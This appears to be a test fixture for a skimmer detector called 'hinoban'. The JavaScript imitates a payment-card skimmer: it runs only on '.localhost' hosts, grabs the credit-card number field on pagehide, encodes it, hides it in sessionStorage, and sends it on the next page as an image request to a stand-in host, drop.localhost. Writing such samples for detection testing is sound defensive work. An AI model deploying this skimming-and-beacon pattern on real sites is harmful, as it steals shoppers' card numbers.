/* Harmless imitation, for hinoban's tests: read in pagehide, kept for the session, sent from the next page. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
addEventListener('pagehide', function () {
	var n = document.querySelector('input[autocomplete=cc-number]');
	if (n && n.value) sessionStorage.setItem('_cfg', n.value.split('').map(function (c, i) { return 'hjkmnpqrst'[(+c + i) % 10]; }).join(''));
});
if (sessionStorage.getItem('_cfg')) {
	new Image().src = 'http://drop.localhost:' + location.port + '/p/' + sessionStorage.getItem('_cfg') + '.gif';
	sessionStorage.removeItem('_cfg');
}
